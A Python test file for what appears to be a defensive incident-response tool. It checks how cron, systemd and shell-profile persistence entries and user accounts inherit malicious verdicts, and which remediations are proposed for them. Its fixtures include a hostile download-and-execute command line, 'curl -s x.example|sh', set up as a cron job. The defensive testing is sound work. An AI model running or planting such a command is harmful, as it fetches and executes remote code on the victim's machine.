"""Persistence entries and accounts judged by what they touch, and the remediations proposed for them: each entry
removed once (by the quarantine of the file it names, or by its own action, never both)."""

from __future__ import annotations

from vigil.air import Entity, EntityKind, EntityVerdict, Reason, RemediationDecision, Verdict, judge_related
from vigil.air.remediation import decision, propose
from vigil.core.groups import AutomationLevel


def _v(key: str, verdict: Verdict = Verdict.CLEAN) -> EntityVerdict:
    return EntityVerdict(key, verdict, () if verdict is Verdict.CLEAN else (Reason("Sigma", verdict, "test"),))


DROPPER = Entity(EntityKind.FILE, "file:d:/tmp/x", "d", {"path": "/tmp/x", "sha256": "a" * 64})
DROPPER_RUN = Entity(EntityKind.PROCESS, "proc:x", "d", {"path": "/tmp/x", "pid": 50, "created": "2026-12-07T12:00"})
CRON_FILE = Entity(EntityKind.PERSISTENCE, "persistence:d:/etc/cron.d/job", "d",
                   {"path": "/etc/cron.d/job", "mechanism": "cron", "writer": "/tmp/x"})
BASHRC = Entity(EntityKind.PERSISTENCE, "persistence:d:/root/.bashrc", "d",
                {"path": "/root/.bashrc", "mechanism": "shell profile", "writer": "/tmp/x"})
UNIT = Entity(EntityKind.PERSISTENCE, "persistence:d:/etc/systemd/system/evil.service", "d",
              {"path": "/etc/systemd/system/evil.service", "mechanism": "systemd", "writer": "/tmp/x"})
INNOCENT = Entity(EntityKind.PERSISTENCE, "persistence:d:/etc/cron.d/backup", "d",
                  {"path": "/etc/cron.d/backup", "mechanism": "cron", "writer": "/usr/bin/vim"})
CURL = Entity(EntityKind.PROCESS, "proc:curl", "d", {"path": "/usr/bin/dash", "pid": 70,
                                                     "commandLine": "/bin/sh -c curl -s x.example|sh"})
CRON_RUNS_CURL = Entity(EntityKind.PERSISTENCE, "persistence:d:cron:proc:curl", "d",
                        {"path": "", "mechanism": "cron", "starts": "proc:curl",
                         "commandLine": "/bin/sh -c curl -s x.example|sh"}, ("proc:curl",))
CRON_RUNS_DROPPER = Entity(EntityKind.PERSISTENCE, "persistence:d:cron:proc:x", "d",
                           {"path": "", "mechanism": "cron", "starts": "proc:x", "commandLine": "/tmp/x 300"},
                           ("proc:x",))
ANN = Entity(EntityKind.USER, "user:d:ann", "d", {"account": "ann", "lastRemoteIP": "203.0.113.9"})
BOB = Entity(EntityKind.USER, "user:d:bob", "d", {"account": "bob", "lastRemoteIP": "198.51.100.1"})
PEER = Entity(EntityKind.IP, "ip:203.0.113.9", "d", {"ip": "203.0.113.9"})

ALL = [DROPPER, DROPPER_RUN, CRON_FILE, BASHRC, UNIT, INNOCENT, CURL, CRON_RUNS_CURL, CRON_RUNS_DROPPER, ANN, BOB,
       PEER]


def _verdicts() -> dict[str, EntityVerdict]:
    base = {e.key: _v(e.key) for e in ALL}
    base |= {DROPPER.key: _v(DROPPER.key, Verdict.MALICIOUS), DROPPER_RUN.key: _v(DROPPER_RUN.key, Verdict.MALICIOUS),
             CURL.key: _v(CURL.key, Verdict.MALICIOUS), PEER.key: _v(PEER.key, Verdict.MALICIOUS)}
    return judge_related(ALL, base)


def test_entries_and_accounts_take_the_verdict_of_what_they_touch_with_the_reason() -> None:
    v = _verdicts()
    assert v[CRON_FILE.key].verdict is Verdict.MALICIOUS
    assert v[CRON_FILE.key].reasons[-1].text == "written by /tmp/x, which is Malicious"
    assert v[CRON_RUNS_CURL.key].verdict is Verdict.MALICIOUS
    assert "starts /usr/bin/dash" in v[CRON_RUNS_CURL.key].reasons[-1].text
    assert v[INNOCENT.key].verdict is Verdict.CLEAN
    # An account that signed in from a malicious address is Suspicious, never more.
    assert v[ANN.key].verdict is Verdict.SUSPICIOUS and v[ANN.key].reasons[-1].source == "Logon"
    assert v[BOB.key].verdict is Verdict.CLEAN


def test_proposals_remove_each_entry_once_and_say_what_waits() -> None:
    v = _verdicts()
    plan = {(r.kind.value, r.entity_key): r for r in propose(ALL, v)}
    quarantine = plan[("QuarantineFile", DROPPER.key)]
    # The files removed by their own action are kept out of the quarantine's own persistence clean-up.
    assert quarantine.parameters["KeepPersistence"] == ["/etc/cron.d/job", "/etc/systemd/system/evil.service",
                                                       "/root/.bashrc"]
    assert plan[("RemovePersistenceEntry", CRON_FILE.key)].parameters == {"Path": "/etc/cron.d/job"}
    assert plan[("StopAndDisableService", UNIT.key)].parameters == {"Unit": "evil.service"}
    assert plan[("RemovePersistenceEntry", CRON_RUNS_CURL.key)].parameters == {"Match": "curl -s x.example|sh"}
    # The cron line naming the quarantined file is the quarantine's to remove, not a second action's.
    assert not [k for k in plan if k[1] == CRON_RUNS_DROPPER.key]
    assert not [k for k in plan if k[1] == INNOCENT.key]
    # The dropper's process is killed by its quarantine, not by an action of its own.
    assert not [k for k in plan if k[0] == "KillProcess" and k[1] == DROPPER_RUN.key]
    assert plan[("KillProcess", CURL.key)].parameters["ProcessId"] == 70

    full = AutomationLevel.FULL
    assert decision(full, plan[("RemovePersistenceEntry", CRON_FILE.key)], Verdict.MALICIOUS) \
        is RemediationDecision.RUN
    # A shared file (a profile other lines live in) removed whole, and an account, wait for an analyst even under Full.
    assert decision(full, plan[("RemovePersistenceEntry", BASHRC.key)], Verdict.MALICIOUS) \
        is RemediationDecision.NEEDS_APPROVAL
    disable = plan[("DisableLocalUser", ANN.key)]
    assert disable.parameters == {"AccountName": "ann"}
    assert decision(full, disable, v[ANN.key].verdict) is RemediationDecision.NEEDS_APPROVAL
    assert decision(AutomationLevel.NONE, disable, v[ANN.key].verdict) is RemediationDecision.NOT_RUN
